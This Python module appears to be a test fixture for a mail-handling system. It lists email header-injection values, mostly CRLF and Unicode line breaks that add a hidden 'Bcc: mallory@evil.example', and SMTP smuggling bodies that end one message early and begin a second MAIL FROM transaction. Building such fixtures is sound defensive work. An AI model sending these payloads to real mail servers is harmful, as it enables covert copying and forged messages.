"""Values with which strangers' mail and contacts have become headers, commands and second messages elsewhere."""

HEADER_VALUES = (
    "a\nBcc: mallory@evil.example",
    "a\r\nBcc: mallory@evil.example",
    "a\rBcc: mallory@evil.example",
    "a\r\n\r\nInjected body",
    "=?UTF-8?Q?=0A?=Bcc: mallory@evil.example",
    "=?utf-8?q?a=0D=0ABcc:_mallory@evil.example?=",
    "=?utf-8?b?YQ0KQmNjOiBtYWxsb3J5QGV2aWwuZXhhbXBsZQ==?=",
    "=?utf-8?q?=00?= NUL",
    "a\u2028Bcc: mallory@evil.example",
    "a\u2029Injected: x",
    "a\x85Injected: x",
    "a\x0bInjected: x",
    "a\x0cInjected: x",
    "a\x00b",
    "a\x1b[2Jb",
    '"<mallory@evil.example>',
    "a, mallory@evil.example",
    "a <mallory@evil.example>",
    "\u202egpj.exe",
    "x" * 3_000,
    "ż" * 1_000,
    "=?utf-8?q?" * 200,
    "\t\n \nInjected: x",
    "a\n.\nMAIL FROM:<mallory@evil.example>",
)


def smuggled() -> list[bytes]:
    """Bodies that end a message where some server believes it does, and begin another one."""
    ends = (b"\n.\n", b"\r.\r", b"\r\n.\r", b"\n.\r\n", b"\r\n.\n", b"\r\n\0.\r\n", b"\r\n.\r\n", b"\r\n..\r\n")
    second = b"MAIL FROM:<a@evil.example>\r\nRCPT TO:<b@klient.example>\r\nDATA\r\nSubject: two\r\n\r\nx"
    return [end + second for end in ends] + [b"\0" * 100, b"x" * 20_000, "ż".encode() * 20_000, b"\r" * 500]
